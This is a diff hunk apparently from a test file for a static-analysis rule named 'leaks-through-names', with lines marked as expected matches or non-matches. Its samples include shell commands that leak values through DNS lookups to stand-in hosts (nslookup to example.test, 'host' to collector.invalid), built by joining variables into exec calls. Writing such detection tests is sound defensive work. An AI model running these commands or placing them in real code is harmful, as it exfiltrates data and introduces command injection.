@@ -6,3 +6,8 @@ exec(`nslookup ${user}.c.example.test`);
 dns.lookup("files.example.test", done);
 // ok: leaks-through-names
 const header = `host: ${url.hostname}${url.port ? `:${url.port}` : ""}.example\r\n`;
+
+// ok: leaks-through-names
+address += host + url.pathname;
+// ruleid: leaks-through-names
+cp.execSync("host " + part + ".collector.invalid");
